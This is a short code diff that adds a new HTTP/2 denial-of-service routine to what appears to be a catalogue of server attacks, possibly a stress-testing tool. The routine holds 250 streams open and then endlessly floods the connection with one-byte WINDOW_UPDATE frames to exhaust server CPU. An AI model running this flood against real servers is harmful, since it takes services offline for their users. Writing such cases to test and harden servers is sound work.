@@ -143,6 +143,13 @@ def window_sizes_by_one(attacker: Attacker) -> None:
     attacker.flood(attacker.connect({4: 0}), itertools.chain(held, opened, sizes))
 
 
+@attack("WINDOW_UPDATE by 1, for 250 calls", "each frame makes the server look at all that wait")
+def window_of_waiting(attacker: Attacker) -> None:
+    held = (call for _, call in itertools.islice(calls(STREAM), 250))
+    again = itertools.repeat(window_update(0, 1))
+    attacker.flood(attacker.connect({4: 0}), itertools.chain(held, again))
+
+
 def _unread(attacker: Attacker, part: bytes) -> None:
     line = attacker.connect({4: MAX_WINDOW}, listens=False, receive_bytes=4096)
     first = next(calls(STREAM))[1] + window_update(0, MAX_WINDOW - 65_535)
